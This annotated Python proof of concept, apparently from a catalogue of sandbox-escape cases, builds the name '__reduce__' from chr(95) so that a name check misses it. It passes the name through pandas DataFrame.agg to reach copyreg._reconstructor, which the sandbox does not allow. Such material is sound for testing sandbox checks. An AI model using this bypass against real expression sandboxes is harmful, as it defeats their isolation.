# source: pandas string dispatch (DataFrame.agg("name") == getattr(df, name)(); pandas.core.apply.apply_str) and the
#         asteval escape via __reduce__ (https://github.com/lmfit/asteval/issues/86): a reduce tuple hands out callables
#         of modules the sandbox never allowed
# family: attribute by a name computed at run time: the name comes out of data (a column label), so the check does not
#         see that it is built at run time
# goal: DataFrame.__reduce__() -> copyreg._reconstructor, a function of the not-allowed module copyreg
import pandas as pd

u = chr(95) * 2
config = pd.DataFrame({u + "reduce" + u: [1.0]})      # e.g. column labels of an input file
prices = pd.DataFrame({"close": [1.0, 2.0]})
for how in config.columns:
    out = prices.agg(how)
    fn = out[0]
    print("reached:", repr(fn), "(copyreg._reconstructor; reduce tuple:", repr(out[1]) + ")")
    try:
        fn(prices, prices, None)        # its traceback names /usr/lib/python3.11/copyreg.py
    except Exception as e:
        print("copyreg code ran:", repr(e))
